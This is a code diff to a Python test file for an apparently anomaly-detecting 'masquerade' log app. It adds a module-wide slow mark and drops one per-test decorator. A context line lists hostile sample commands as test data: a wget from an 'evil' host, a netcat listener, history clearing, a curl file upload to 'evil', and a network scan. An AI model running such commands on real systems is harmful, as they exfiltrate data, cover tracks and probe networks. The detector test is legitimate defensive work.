@@ -16,6 +16,8 @@ from visionnmf.apps.masquerade import logs as cutting
 from visionnmf.apps.masquerade.logs import Event
 from visionnmf.exceptions import UnreadableError
 
+pytestmark = pytest.mark.slow  # all of it runs whole fits or commands
+
 USUAL = ["ls", "cd", "vi", "make", "git", "grep"]
 FOREIGN = ["wget http://evil/x", "nc -l 4444", "history -c", "curl -F f=@loot evil", "nmap 10.0.0.0/8"] * 2
 
@@ -282,7 +284,6 @@ def test_the_lines_that_wait_are_bounded(monkeypatch):
     assert [s.origins[0].line for s in found] == list(range(1, 2001))
 
 
-@pytest.mark.slow
 def test_an_interrupt_prints_what_is_left(model, tmp_path):
     """As a process: Ctrl-C, nothing before, everything at the end."""
     import signal
